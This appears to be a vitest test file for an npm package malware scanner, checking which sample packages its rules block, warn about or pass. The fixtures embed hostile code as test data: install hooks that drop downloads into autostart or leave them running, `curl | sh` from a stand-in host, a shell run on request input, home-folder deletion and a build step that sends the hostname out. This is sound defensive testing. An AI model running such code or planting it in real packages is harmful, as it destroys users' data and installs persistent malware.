import { describe, expect, test } from "vitest";
import { nativeBuild } from "../../../src/scanner/rules/ins-05-native-build.ts";
import { hiddenProcess } from "../../../src/scanner/rules/ins-11-hidden-process.ts";
import { packageView } from "../../support/package-view.ts";
import { asCommand, atInstall, base64, describeVerdicts } from "../../support/verdicts.ts";

/** A release that a hook fetches, takes apart with the system's tool, and leaves for the command. */
function unpackedRelease(options: string) {
  return {
    manifest: {
      name: "sample",
      bin: { sample: "run.js" },
      scripts: { postinstall: "node install.js" },
    },
    files: {
      "install.js": `
        const fs = require("fs"), os = require("os"), path = require("path"), https = require("https");
        const { execFileSync } = require("child_process");
        const name = "sample_" + process.platform + "_" + process.arch + ".tar.gz";
        https.get("https://files.example.test/sample/v1/" + name, (r) => {
          const chunks = [];
          r.on("data", (c) => chunks.push(c));
          r.on("end", () => {
            const archive = path.join(fs.mkdtempSync(path.join(os.tmpdir(), "sample-")), name);
            fs.writeFileSync(archive, Buffer.concat(chunks));
            execFileSync("tar", ["-xf", archive, ${options}], { stdio: "inherit" });
          });
        });`,
      "run.js": `require("child_process").spawnSync(__dirname + "/vendor/sample", process.argv.slice(2), { stdio: "inherit" });`,
    },
  };
}

/** A call that fetches a file, keeps it, and hands it to a program. */
function handedTo(start: string) {
  return `
    const fs = require("fs"), os = require("os"), path = require("path"), cp = require("child_process");
    exports.thumb = async () => {
      const file = path.join(os.tmpdir(), "clip.bin");
      fs.writeFileSync(file, Buffer.from(await (await fetch("https://files.example.test/clip")).arrayBuffer()));
      ${start}
    };`;
}

/** Releases of which a setting and the machine choose one. */
function chosenRelease(start: string) {
  return {
    manifest: {
      name: "sample",
      bin: { sample: "run.js" },
      scripts: { postinstall: "node install.js" },
    },
    files: {
      "install.js": `
        const https = require("https"), fs = require("fs"), path = require("path"), cp = require("child_process");
        const to = path.join(__dirname, "bin", "sample");
        const file = { x64: "sample-amd64", arm64: "sample-arm" }[process.arch];
        const version = process.env.SAMPLE_VERSION || "latest";
        const base = "https://files.example.test/";
        const folder = version === "latest" ? base + "latest/" : base + "v/" + version + "/";
        if (process.platform === "linux") https.get(folder + file, (r) => {
          const out = fs.createWriteStream(to);
          r.pipe(out);
          out.on("finish", () => { ${start} });
        });`,
      "run.js": `require("child_process").spawnSync(__dirname + "/bin/sample", process.argv.slice(2), { stdio: "inherit" });`,
    },
  };
}

describeVerdicts("EXE-02", {
  blocks: {
    "an archive that is taken apart where programs start by themselves": unpackedRelease(
      `"-C", os.homedir() + "/.config/autostart"`,
    ),
    "a release that is left running": chosenRelease(
      `cp.spawn(to, ["--daemon"], { detached: true, stdio: "ignore" }).unref();`,
    ),
  },
  warns: {
    "a file that a call fetches and leaves running": handedTo(
      `cp.spawn(file, [], { detached: true, stdio: "ignore" }).unref();`,
    ),
  },
  passes: {
    "an archive that is taken apart in the package": unpackedRelease(
      `"-C", path.join(__dirname, "vendor")`,
    ),
    "a release that is asked for its version": chosenRelease(`cp.execFileSync(to, ["--version"]);`),
    "a file for another program to read": handedTo(
      `cp.execFileSync("ffmpeg", ["-i", file, "out.jpg"]);`,
    ),
    "an answer that names where a copy goes": `
      const fs = require("fs"), cp = require("child_process");
      exports.place = async (from) => {
        const { folder } = await (await fetch("https://files.example.test/who")).json();
        fs.copyFileSync(from, folder + "/asset.js");
        cp.execFileSync("node", ["lint.js", "asset.js"]);
      };`,
    "a program that a command fetches into the user's folder": asCommand(`
      const fs = require("fs"), os = require("os"), path = require("path"), cp = require("child_process"), https = require("https");
      const to = path.join(os.homedir(), ".sample", "helper.exe");
      https.get("https://files.example.test/helper-" + process.platform, (r) => {
        const out = fs.createWriteStream(to);
        r.pipe(out);
        out.on("finish", () => cp.execFileSync(to, ["install", "service"], { stdio: "inherit" }));
      });`),
  },
});

describeVerdicts("EXE-08", {
  blocks: {
    "a request that says what a shell does": `
      const { execFile } = require("child_process");
      module.exports = (req, res, next) => execFile("sh", ["-c", req.query.q], (e, out) => res.end(out));`,
  },
  warns: {},
  passes: {
    "an address that is shown": `
      const { spawn } = require("child_process");
      module.exports = (req, next) => { spawn("xdg-open", [req.session.url], { stdio: "ignore", detached: true }).unref(); next(); };`,
    "words for a script of the package": {
      manifest: { bin: { sample: "cli.js" } },
      files: {
        "cli.js": `
          const { spawn } = require("child_process"), path = require("path");
          (async () => {
            const site = await (await fetch("https://files.example.test/site")).json();
            spawn(process.execPath, [path.join(__dirname, "tell.js"), JSON.stringify(site)], { stdio: "ignore" });
          })();`,
        "tell.js": `console.log(process.argv[2].length);`,
      },
    },
    "a remote that a service names": asCommand(`
      const { execSync } = require("child_process");
      (async () => {
        const { name } = await (await fetch("https://files.example.test/app")).json();
        execSync("git remote add deploy-" + name);
      })();`),
  },
});

describeVerdicts("EXE-04", {
  blocks: {},
  warns: {
    "an archive of a program that a call unpacks": `
      const fs = require("fs"), cp = require("child_process");
      const archive = "${base64(`\x7fELF${"\x01\x02\x03\x04\x05\x06\x07\x08".repeat(60)}`)}";
      exports.run = () => {
        fs.writeFileSync("/tmp/helper.bin", Buffer.from(archive, "base64"));
        cp.execFileSync("/tmp/helper.bin");
      };`,
  },
  passes: {
    "a program that a description names": `
      const cp = require("child_process");
      const about = JSON.parse(${JSON.stringify(JSON.stringify({ name: "sample", text: "Zero configuration bundler for the web. ".repeat(40), tool: "npm" }))});
      exports.run = (args) => cp.spawn(about.tool, args);`,
  },
});

describeVerdicts("EXE-16", {
  blocks: {},
  warns: {
    "the installer of somebody else": {
      ...asCommand(
        `require("child_process").execSync("curl -fsS https://get.other.example | sh");`,
      ),
      manifest: { name: "sample", bin: { sample: "cli.js" } },
    },
  },
  passes: {
    "the installer of the program itself": {
      ...asCommand(
        `require("child_process").execSync("curl -fsS https://sample.example | sh", { stdio: "inherit" });`,
      ),
      manifest: { name: "sample", bin: { sample: "cli.js" } },
    },
    "a script in the project, with words": asCommand(`
      const path = require("path");
      const script = path.join(process.cwd(), "cli", "index.js");
      require("child_process").spawn("node", [script, "--output", "json"]);`),
  },
});

const served = `
  const http = require("http"), fs = require("fs"), send = require("send");
  const read = (file) => fs.readFileSync(file, "utf8");
  exports.start = (root) => http.createServer((req, res) => {
    send(req, req.url, { root }).on("file", (file) => read(file)).pipe(res);
  }).listen(8080);`;

describeVerdicts("EXE-14", {
  blocks: {},
  passes: {
    "a command that serves the folder it is told": {
      manifest: { bin: { sample: "cli.js" } },
      files: {
        "cli.js": `require("./serve").start(process.argv[2] || process.cwd());`,
        "serve.js": served,
      },
    },
  },
});

describeVerdicts("DES-01", {
  blocks: {
    "the home folder, by a command": asCommand(
      `require("fs").rmSync(require("os").homedir(), { recursive: true, force: true });`,
    ),
    "all that lies beside the package, at installation": atInstall(`
      const fs = require("fs"), path = require("path"), beside = path.join(__dirname, "..");
      for (const name of fs.readdirSync(beside)) fs.rmSync(path.join(beside, name), { recursive: true });`),
  },
  passes: {
    "what a command left beside itself": asCommand(`
      const fs = require("fs"), path = require("path"), beside = path.dirname(__dirname);
      for (const name of fs.readdirSync(beside).filter((one) => one.startsWith(".sample-"))) {
        fs.rmSync(path.join(beside, name), { recursive: true, force: true });
      }`),
  },
});

describeVerdicts("PER-03", {
  blocks: {
    "the package's own tunnel, told which": atInstall(
      `require("child_process").spawn(require("path").join(__dirname, "bin", "cloudflared"), ["tunnel", "run", "x"]);`,
    ),
  },
  passes: {
    "the package's own tunnel, told what the user says": atInstall(
      `require("child_process").spawn(require("path").join(__dirname, "bin", "cloudflared"), process.argv.slice(2));`,
    ),
  },
});

/** A class of the old form that registers a service when somebody makes one. */
function service(then: string) {
  return `
    const { exec } = require("child_process"), util = require("util"), { EventEmitter } = require("events");
    const Service = function (config) {
      exec("/sbin/chkconfig " + config.name + " on");
    };
    util.inherits(Service, EventEmitter);
    module.exports = Service;
    ${then}`;
}

describeVerdicts("PER-01", {
  blocks: { "a service that loading registers": service(`new Service({ name: "x" });`) },
  passes: { "a service of the caller": service("") },
});

/** A package of which the command is also something that can be loaded. */
function startedBy(starter: string, rest = "") {
  return {
    manifest: {
      type: "module",
      bin: { sample: "bin/sample.mjs" },
      exports: { ".": "./index.mjs", "./sample": "./dist/sample.mjs" },
    },
    files: {
      "index.mjs": "export const a = 1;",
      "bin/sample.mjs": starter,
      "dist/sample.mjs": `
        import { spawnSync } from "node:child_process";
        spawnSync("claude", ["-p", process.argv[2] ?? "hello"], { stdio: "inherit" });
        ${rest}`,
    },
  };
}

describeVerdicts("AGT-02", {
  blocks: {
    "what is loaded and also gives something": startedBy(
      `#!/usr/bin/env node\nimport "../dist/sample.mjs";\n`,
      "export const add = (a, b) => a + b;",
    ),
    "what is loaded and that no command starts": startedBy(
      `#!/usr/bin/env node\nconsole.log(1);\n`,
      "export {};",
    ),
  },
  passes: {
    "a program that its command only starts": startedBy(
      `#!/usr/bin/env node\n"use strict";\nimport "../dist/sample.mjs";\n`,
      "export {};",
    ),
    "a word of the shell": {
      manifest: { scripts: { postinstall: "sh ./configure" } },
      files: { configure: "for a in 1 2; do test $a = 1 && continue; echo $a; done\n" },
    },
  },
});

describeVerdicts("EXE-01", {
  blocks: {
    "a module that an answer names, where it is asked": `
      exports.load = async () => {
        const { name } = await (await fetch("https://files.example.test/next")).json();
        return require(name);
      };`,
  },
  passes: {
    "a module that an object names in which all is kept": {
      files: {
        "index.js": `
          const load = require("./load"), settings = require("./settings");
          exports.run = async () => load((await settings()).entry);`,
        "load.js": `module.exports = async (path) => import(path);`,
        "settings.js": `
          const fs = require("fs"), os = require("os");
          module.exports = async () => {
            const all = {};
            for (const one of [{ ...process.env }, { user: os.hostname() }, await (await fetch("https://files.example.test/s")).json()]) {
              for (const key of Object.keys(one)) all[key] = one[key];
            }
            return all;
          };`,
      },
    },
  },
});

describe("what runs at installation, where it can be read", () => {
  const left = (script: string) =>
    atInstall(
      `
      const cp = require("child_process"), path = require("path");
      cp.spawn(process.execPath, [${script}, "x"], { detached: true, stdio: "ignore" }).unref();`,
      {
        "tell.js": `console.log("hello");`,
      },
    );
  const pointsOf = (script: string) =>
    [...hiddenProcess.check(packageView(left(script)))][0]?.points;

  test("a script of the package says for itself what it does", () => {
    expect(pointsOf(`path.join(__dirname, "tell.js")`)).toBe(30);
  });

  test("another one does not", () => {
    expect(pointsOf(`"/tmp/tell.js"`)).toBeUndefined();
    expect([...hiddenProcess.check(packageView(left(`"/tmp/tell.js"`)))]).toHaveLength(1);
  });

  const build = (script: string) =>
    packageView({
      manifest: { name: "sample" },
      files: {
        "binding.gyp": `{ "targets": [{ "target_name": "a", "sources": ["a.cc"], "libraries": ["<!(node get.js)"] }] }`,
        "a.cc": "int a;",
        "get.js": script,
      },
    });

  test("a build that fetches what it is linked with is told, and blocked where it tells of the machine", () => {
    const fetches = `
      const fs = require("fs");
      fetch("https://files.example.test/lib-" + process.platform).then(async (r) => fs.writeFileSync(__dirname + "/lib.a", Buffer.from(await r.arrayBuffer())));`;
    const [hit] = [...nativeBuild.check(build(fetches))];
    expect([hit?.points, hit?.solo]).toEqual([30, false]);
    const tells = `${fetches} fetch("https://files.example.test/" + require("os").hostname());`;
    expect([...nativeBuild.check(build(tells))].map(({ points }) => points)).toEqual([undefined]);
  });
});
